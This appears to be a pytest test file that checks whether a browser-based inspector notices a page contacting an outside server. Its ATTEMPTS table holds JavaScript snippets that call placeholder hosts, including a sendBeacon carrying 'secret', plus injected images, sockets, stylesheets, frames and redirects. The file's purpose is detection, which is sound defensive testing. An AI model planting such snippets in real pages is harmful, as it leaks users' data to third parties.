"""A page that asks another server is seen, whatever it asks with."""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest

from tests.docs.browser import Browser
from tests.server.inspector.chromium import PROGRAM, needs_chromium, until
from tests.server.inspector.outside import Outside, strays

pytestmark = needs_chromium

ATTEMPTS = {
    "a picture of this machine": "new Image().src = 'http://OUTSIDE/a'",
    "a picture of another one": "new Image().src = 'https://pictures.example/a'",
    "a socket": "new WebSocket('ws://sockets.example/')",
    "a beacon": "navigator.sendBeacon('http://OUTSIDE/beacon', 'secret')",
    "a style": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=http://OUTSIDE/s.css>')",
    "a page in its place": "location.href = 'http://OUTSIDE/page'",
    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=http://OUTSIDE/frame></iframe>')",
}


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[Outside, Outside]]:
    """Yield the server of a page, and one outside of it."""
    home, outside = Outside(), Outside()
    yield home, outside
    home.close()
    outside.close()


@pytest.fixture(scope="module")
def browser(servers: tuple[Outside, Outside]) -> Iterator[Browser]:
    """Yield a browser of its own, since its requests are not those of the inspector."""
    assert PROGRAM is not None, "Chromium is not installed"
    with Browser(PROGRAM, f"--proxy-server=http://{servers[1].address}") as opened:
        opened.call("Network.enable")
        yield opened


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_a_request_to_another_server_is_seen(
    browser: Browser, servers: tuple[Outside, Outside], attempt: str
) -> None:
    home, outside = servers
    browser.open(f"http://{home.address}/")
    until(browser, "document.body")
    browser.requests.clear()
    outside.asked.clear()
    browser.run(f"void ({ATTEMPTS[attempt].replace('OUTSIDE', outside.address)})")
    for _ in range(100):
        if strays(browser.requests) or outside.asked:
            return
        time.sleep(0.05)
        browser.call("Page.getFrameTree")
    pytest.fail("the request was not seen")
